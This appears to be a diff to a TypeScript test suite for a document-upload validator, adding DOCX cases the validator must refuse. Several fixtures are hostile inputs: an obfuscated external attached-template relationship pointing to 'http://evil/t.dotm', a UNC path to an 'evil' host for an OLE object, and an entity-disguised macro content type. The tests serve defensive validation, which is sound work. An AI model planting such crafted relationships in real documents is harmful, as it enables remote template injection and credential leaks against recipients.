@@ -35,6 +35,15 @@ const noise = Buffer.from(
   Uint32Array.from({ length: 262_144 }, (_, i) => Math.imul(i ^ (i >>> 3), 2_654_435_761)).buffer,
 );
 
+const relations = (content: Buffer | string) => ({ name: 'word/_rels/settings.xml.rels', content });
+const utf16 = (text: string): Buffer => Buffer.from(`\ufeff${text}`, 'utf16le');
+/** Prefix, single quotes, a bracket in a value, references: legal, and Office reads them all. */
+const odd = () =>
+  relations(
+    `<r:Relationships><r:Relationship Id=">" TargetMode='External' Target="&#104;ttp://evil/t.dotm" ` +
+      `Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attached&#x54;emplate'/>`,
+  );
+
 const ACCEPTED: [string, string, Buffer][] = [
   ['a PDF', 'a.pdf', makePdf()],
   ['a PDF with its ending in capitals', 'A.PDF', makePdf()],
@@ -193,6 +202,15 @@ const REFUSED: [string, string, string, Buffer | string][] = [
     'a.docx',
     'active_content',
     makeDocx(relation('oleObject', '\\\\evil\\s\\a')),
+  ],
+  ['a template from the network, written otherwise', 'a.docx', 'active_content', makeDocx(odd())],
+  ['relations in another encoding', 'a.docx', 'damaged', makeDocx(relations(utf16('<a/>')))],
+  ['relations with entities', 'a.docx', 'damaged', makeDocx(relations('<!DOCTYPE a><a/>'))],
+  [
+    'macros in a type that is written otherwise',
+    'a.docx',
+    'macros',
+    makeZip([contentTypes(MACRO_TYPE.replace('E', '&#69;')), mainPart]),
   ],
   [
     'an encrypted part',
